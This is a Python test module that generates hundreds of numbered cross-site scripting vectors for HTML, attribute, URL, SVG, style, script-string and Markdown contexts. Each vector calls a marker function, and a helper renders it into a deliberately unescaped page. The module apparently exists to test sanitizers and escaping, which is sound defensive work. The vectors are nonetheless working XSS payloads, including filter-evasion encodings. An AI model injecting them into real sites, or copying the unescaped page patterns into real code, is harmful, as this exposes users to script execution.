"""Hundreds of texts that run a script wherever a page shows them without care, each with a number that it tells.

A vector calls ``fired(number)``. Its context says where it would be dangerous: as HTML, inside an attribute, as an
address, in a drawing, in a style, in a script's string, as Markdown. Pure.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

import markdown


class Context(StrEnum):
    """Where a text would have to stand, unescaped, to run."""

    HTML = "html"
    ATTRIBUTE = "attribute"
    SINGLE_QUOTED = "single-quoted attribute"
    UNQUOTED = "unquoted attribute"
    URL = "url"
    SVG = "svg"
    STYLE = "style"
    STYLE_ATTRIBUTE = "style attribute"
    SCRIPT = "script"
    MARKDOWN = "markdown"


@dataclass(frozen=True)
class Vector:
    """A text that calls ``fired(number)`` where it is shown in its context as it is."""

    number: int
    context: Context
    text: str


# What runs by itself; F stands for the call.
HTML = (
    "<script>F</script>", "<ScRiPt>F</sCrIpT>", "<script\n>F</script\n>", "<script/x>F</script/y>",
    "<script type=module>F</script>", '<script src="data:text/javascript,F"></script>',
    "<script src=//127.0.0.1:1/ onerror=F>", "<script>\nF\n<!-- --></script>", "<script>{F}</script>",
    "<img src=x onerror=F>", "<img/src='x'/onerror=F>", "<img\tsrc=x\tonerror=F>", "<img\nsrc=x\nonerror=F>",
    "<img\x0csrc=x\x0conerror=F>", "<IMG SRC=x ONERROR=F>", '<img src="x" onerror="F">',
    "<img src='x' onerror='F'>", "<img src=x onerror=&#102;ired(N)>", "<img src=x onerror = F>",
    "<img src=x onerror=&#x66;ired(N)>", "<img src=x onerror=fired&lpar;N&rpar;>", "<img src=x onerror=fired`N`>",
    "<img src=x onerror=\\u0066ired(N)>", "<img src=x onerror=top['fir'+'ed'](N)>", "<img src=x onerror=eval('F')>",
    "<image src=x onerror=F>", '<img src="" onerror=F>', "<img srcset=x onerror=F>", "<img src=data:, onerror=F>",
    "<<img src=x onerror=F>", "<img src=x:x onerror=F>", "<img src=x a='>' onerror=F>",
    "<img src=x \"a\" onerror=F>", "<img src=x onerror=F onerror=1>",
    "<picture><source srcset=x><img onerror=F></picture>", "<body onload=F>", "<body onpageshow=F>",
    "<iframe onload=F>", "<iframe src=about:blank onload=F></iframe>",
    "<iframe srcdoc='<script>F</script>'></iframe>", "<iframe srcdoc=&lt;script&gt;F&lt;/script&gt;></iframe>",
    "<iframe src='javascript:F'></iframe>", "<iframe src=' &#106;avascript:F'></iframe>",
    "<embed src='data:text/html,<script>F</script>'>", "<object data='data:text/html,<script>F</script>'></object>",
    "<object data=x onerror=F></object>", "<video src=x onerror=F></video>", "<audio src=x onerror=F></audio>",
    "<video><source onerror=F></video>", "<video onloadstart=F src=x></video>", "<audio onloadstart=F src=x>",
    "<details open ontoggle=F>x</details>", "<details ontoggle=F open>", "<input autofocus onfocus=F>",
    "<textarea autofocus onfocus=F></textarea>", "<select autofocus onfocus=F></select>",
    "<button autofocus onfocus=F>x</button>", "<p tabindex=1 autofocus onfocus=F>x</p>",
    "<a href=# autofocus onfocus=F>x</a>", "<style onload=F></style>", "<style onload=F>x",
    "<link rel=stylesheet href=data:text/css, onload=F>", "<link rel=stylesheet href=//127.0.0.1:1/ onerror=F>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=F>x",
    "<template shadowrootmode=open></template><img src=x onerror=F>",
    "<p><template shadowrootmode=open><img src=x onerror=F></template></p>",
    "<math><mtext><img src=x onerror=F></mtext></math>", "<math><mi><script>F</script></mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=F>'>", "<table><img src=x onerror=F></table>",
    "<table><td background=x><script>F</script>",
    "<select><option><img src=x onerror=F></select><script>F</script>", "<p/onclick=0><script>F</script>",
    "<form><input type=image src=x onerror=F></form>", "<!--><img src=x onerror=F>-->",
    "<!--a--!><img src=x onerror=F>-->", "<![CDATA[><img src=x onerror=F>]]>", "<?x ><img src=x onerror=F>",
    "</ ><img src=x onerror=F>", "<x/><script>F</script>", "<%><img src=x onerror=F>", "<x onpointerenter=F>x</x>",
    "<p onmouseover=F>x</p>", "<p onclick=F>x</p>", "<p oncontextmenu=F>x", "<input oninput=F value=x>",
    "<form onsubmit=F><button>x</button></form>", "<p onpaste=F contenteditable>x", "<p ondblclick=F>x",
    "<p onwheel=F>x", "<p onkeydown=F tabindex=0>x", "<a href=javascript:F>x</a>", "<a href=' javascript:F'>x</a>",
    "<a href='java&Tab;script:F'>x</a>", "<a href=javascript&colon;F>x</a>",
    "<form action=javascript:F><input type=submit></form>",
    "<form><button formaction=javascript:F>x</button></form>",
    "<form><input type=submit formaction=javascript:F></form>",
    "<button form=f formaction=javascript:F>x</button><form id=f></form>",
    "<map name=m><area href=javascript:F></map>",
)  # fmt: skip
SVG = (
    "<svg onload=F>", "<svg/onload=F>", "<SVG ONLOAD=F>", "<svg onload=F></svg>", "<svg><script>F</script></svg>",
    "<svg><g onload=F></g></svg>", "<svg><script href='data:text/javascript,F'/></svg>",
    "<svg><script xlink:href='data:text/javascript,F'></script></svg>", "<svg><script>&#102;ired(N)</script></svg>",
    "<svg><script><![CDATA[F]]></script></svg>", "<svg><animate onbegin=F attributeName=x dur=1s>",
    "<svg><set onbegin=F attributeName=x to=1>", "<svg><animateTransform onbegin=F attributeName=transform dur=1s>",
    "<svg><animate onend=F attributeName=x dur=0.01s>", "<svg><image href=x onerror=F />",
    "<svg><image xlink:href=x onerror=F />", "<svg><animateMotion onbegin=F dur=1s />",
    "<svg><foreignObject><img src=x onerror=F></foreignObject></svg>",
    "<svg><foreignObject><iframe onload=F></foreignObject></svg>",
    "<svg><style><img src=x onerror=F></style></svg>", "<svg><desc><img src=x onerror=F></desc></svg>",
    "<svg><title><img src=x onerror=F></title></svg>", "<svg><p><img src=x onerror=F></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=F>'>",
    "<svg><a href=javascript:F><text y=9>x</text></a></svg>",
    "<svg><a xlink:href=javascript:F><text y=9>x</text></a></svg>",
    "<svg><rect width=9 height=9 onclick=F /></svg>", "<svg><use href='#a' onclick=F /></svg>",
    "<svg><a><set attributeName=href to=javascript:F /><text y=9>x</text></a></svg>",
    "<svg onclick=F width=9 height=9></svg>",
    "<svg><a><animate attributeName=href values=javascript:F dur=99s /><text y=9>x</text></a></svg>",
)  # fmt: skip
BREAKING_OUT = (
    '">', "'>", '"/>', "</textarea>", "</title>", "</option></select>", "</script>", "</style>", "</noscript>",
    "</xmp>", "</table>", "</svg>", "</button>", "</a>", "--></p>", "]]>", "</iframe>", "</template>",
    "</plaintext>", "</summary></details>", "</label>", "\\\">", "%\">", "`>",
)  # fmt: skip
AFTERWARDS = ("<img src=x onerror=F>", "<svg onload=F>", "<script>F</script>", "<iframe srcdoc='<script>F</script>'>")
ATTRIBUTES = (
    "onfocus=F autofocus x=", "onmouseover=F x=", "onclick=F x=", "onpointerenter=F x=", "onpointerdown=F x=",
    "onkeydown=F x=", "style=animation:k onmousemove=F x=", "contenteditable oninput=F x=", "oncopy=F x=",
    "tabindex=1 onfocusin=F x=",
)  # fmt: skip
URLS = (
    "javascript:F", "JavaScript:F", "JAVASCRIPT:F", "java\tscript:F", "java\nscript:F", "java\rscript:F",
    " javascript:F", "\x01javascript:F", "\x1fjavascript:F", "\tjavascript:F", "\njavascript:F", "javascript\t:F",
    "javascript://x%0aF", "javascript://x.invalid/%0d%0aF", "javascript:/*x*/F", "javascript:void(F)",
    "javascript:'<b>'+F", "javascript:%66ired(N)", "javascript:\\u0066ired(N)", "javascript:eval('F')",
    "javascript:(()=>F)()", "javascript:throw/**/F", "javascript:\"https:\";F", "j\na\nv\na\ns\nc\nr\ni\np\nt:F",
    "javascript:F//https://x.invalid/", "javascript:F;'mailto:a@b'", "javascript:F/x.png", "javascript:/x/;F",
)  # fmt: skip
STYLES = (
    "</style><img src=x onerror=F>", "*{}</style><script>F</script>", "x{background:url(x)}</style><svg onload=F>",
    "/*</style><img src=x onerror=F>*/", "@import 'x';</style><svg/onload=F>",
    "<!--</style><img src=x onerror=F>-->", "x{content:'</style><script>F</script>'}",
    "\\3c/style></style><script>F</script>", "@font-face{src:url('</style><svg onload=F>')}",
    "}</STYLE><script>F</script>", "x</style/><svg onload=F>",
)  # fmt: skip
STYLE_ATTRIBUTES = (
    'x:y" onmouseover="F', 'color:red;"onclick="F', 'animation:k"onmousemove=F x="',
    'width:9px" autofocus tabindex=1 onfocus="F', 'x"><img src=x onerror="F', 'background:url(x)"><svg onload="F',
    "x:expression(1)\"><script>F</script><p x=\"", '--x:1"onpointerenter="F', '/*"onclick="F"*/', 'x:y;"onwheel=F ',
)  # fmt: skip
SCRIPTS = (
    "';F;'", "'-F-'", "'+F+'", "';F//", "</script><script>F</script>", "</script><img src=x onerror=F>", "';\nF;'",
    "'||F||'", "';eval('F');'", "';{F};'", "</ScRiPt ><svg onload=F>", "';[F];'",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:F)", "[x](JavaScript:F)", "[x](<javascript:F>)", "[x](javascript:F 'y')",
    '[x](javascript:F "y")', "[x][y]\n\n[y]: javascript:F", "[y]\n\n[y]: javascript:F 'z'", "[*x*](javascript:F)",
    "[![x](x)](javascript:F)", "[x]( javascript:F )", "[x](javascript:F//https://x.invalid)", "[`x`](javascript:F)",
    "# <img src=x onerror=F>", "### x\n\n<svg onload=F>", "* <img src=x onerror=F>", "1. <img src=x onerror=F>",
    "> <img src=x onerror=F>", "> [!TIP] <img src=x onerror=F>\n> x", "**<img src=x onerror=F>**",
    "_x <svg onload=F> x_", "a<br><script>F</script>", "<p>\n\n<script>F</script>",
    "<div markdown=1>\n<img src=x onerror=F>\n</div>", "x\n===\n<svg/onload=F>", "x  \n<img src=x onerror=F>",
    "![<img src=x onerror=F>](x)\n\n<svg onload=F>", "[<img src=x onerror=F>](x)",
    "- x\n\n    <img src=x onerror=F>\n\n<svg onload=F>", "```\nx\n```\n<script>F</script>",
    "`x`<img src=x onerror=F>`y`", "``x`` <svg onload=F>", "\\<b><img src=x onerror=F>",
    "<!-- x --><img src=x onerror=F>", "| a |\n|---|\n| <img src=x onerror=F> |",
    "[^1]\n\n[^1]: <img src=x onerror=F>", "*[x]: y\n\nx <svg onload=F>", "x\n: <img src=x onerror=F>",
    "<a\nhref=javascript:F>x</a>", "<b title='*'><img src=x onerror=F></b>",
    "[x](https://x.invalid) <a href=javascript:F>y</a>",
)  # fmt: skip
CYRILLIC = (
    "Отчёт <img src=x onerror=F> о сделке", "Ёлка<script>F</script>", "<p title=Ўзбек><svg onload=F>",
    "Қазақстан\"><img src=x onerror=F>", "Тоҷикистон'><svg/onload=F>", "<img alt=Өзен src=x onerror=F>",
    "<img src=ж.png onerror=F>", "<script>var ы = F</script>", "<script>/*ё*/F</script>",
    "<script>let Ғ=()=>F;Ғ()</script>", "<svg><title>Ҷ</title><script>F</script></svg>",
    "<svg aria-label='Рис. 1' onload=F>", "«Ёж» <b onclick=F>ёж</b>",
    "<iframe srcdoc='Қ<script>F</script>'></iframe>", "<details open ontoggle=F>Подробнее</details>",
    "<input value=Ў autofocus onfocus=F>", "<video src=ё onerror=F></video>",
    "<style>ё{}</style><img src=x onerror=F>", "<!-- ё --><img src=x onerror=F>",
    "№ 5</textarea><img src=x onerror=F>", "Пётр</title><script>F</script>",
    "Сӯҳроб</option></select><img src=x onerror=F>", "Жұмыс--></p><svg onload=F>", "<ё><img src=x onerror=F></ё>",
    "<body onload=F>Тело", "<a href='javascript:F'>Ссылка</a>", "<p data-ё=1 onclick=F>Ж",
)  # fmt: skip
CYRILLIC_MARKDOWN = (
    "[Ссылка](javascript:F)", "[Ссылка][ё]\n\n[ё]: javascript:F", "## Раздел <img src=x onerror=F>",
    "> Цитата <svg onload=F>", "* Пункт <img src=x onerror=F>", "**Жирно** <script>F</script>",
    "| Столбец |\n|---|\n| Ў <img src=x onerror=F> |", "[Қ](<javascript:F>)", "[*Өзен*](javascript:F 'Ҷ')",
)  # fmt: skip
CYRILLIC_ATTRIBUTES = ("onfocus=F autofocus title=Ё", "onclick=F title=Қазақ", "onmouseover=F alt=Ўз")
CYRILLIC_URLS = ("javascript:F//Ё", "javascript:/*Қ*/F", "javascript:'Ў';F", "javascript://ё%0aF")


def everything() -> tuple[Vector, ...]:
    """All of them, numbered in an order that never changes; no text stands twice."""
    texts = list(dict.fromkeys(_texts()))
    return tuple(
        Vector(number, context, re.sub(r"\bN\b", str(number), text.replace("F", "fired(N)")))
        for number, (context, text) in enumerate(texts, 1)
    )


def _texts() -> Iterator[tuple[Context, str]]:
    yield from ((Context.HTML, text) for text in HTML)
    yield from ((Context.SVG, text) for text in SVG)
    for number, out in enumerate(BREAKING_OUT):
        yield Context.HTML, out + AFTERWARDS[number % len(AFTERWARDS)]
        yield Context.HTML, f"x{out}{out}{AFTERWARDS[(number + 1) % len(AFTERWARDS)]}"
    for text in (*ATTRIBUTES, *CYRILLIC_ATTRIBUTES):
        yield Context.ATTRIBUTE, f'x" {text}"'
        yield Context.SINGLE_QUOTED, f"x' {text}'"
        yield Context.UNQUOTED, f"x {text}"
    yield from ((Context.URL, text) for text in (*URLS, *CYRILLIC_URLS))
    yield from ((Context.STYLE, text) for text in STYLES)
    yield from ((Context.STYLE_ATTRIBUTE, text) for text in STYLE_ATTRIBUTES)
    yield from ((Context.SCRIPT, text) for text in SCRIPTS)
    yield from ((Context.MARKDOWN, text) for text in (*MARKDOWN, *CYRILLIC_MARKDOWN))
    yield from ((Context.HTML, text) for text in CYRILLIC)


def careless_page(vector: Vector) -> str:
    """A page that shows a vector in its context as nobody should."""
    text = vector.text
    match vector.context:
        case Context.HTML | Context.SVG:
            body = text
        case Context.ATTRIBUTE:
            body = f'<input type="text" value="{text}">'
        case Context.SINGLE_QUOTED:
            body = f"<input type='text' value='{text}'>"
        case Context.UNQUOTED:
            body = f"<input type=text value={text}>"
        case Context.URL:
            body = f'<a href="{text.replace(chr(34), "&quot;")}">x</a>'
        case Context.STYLE:
            body = f"<style>{text}</style>"
        case Context.STYLE_ATTRIBUTE:
            body = f'<p style="{text}">x</p>'
        case Context.SCRIPT:
            body = f"<script>var x = '{text}';</script>"
        case Context.MARKDOWN:
            body = markdown.markdown(text, extensions=["tables", "footnotes", "abbr", "def_list", "md_in_html"])
    return f"<!DOCTYPE html><html><head><title>x</title></head><body>{body}"
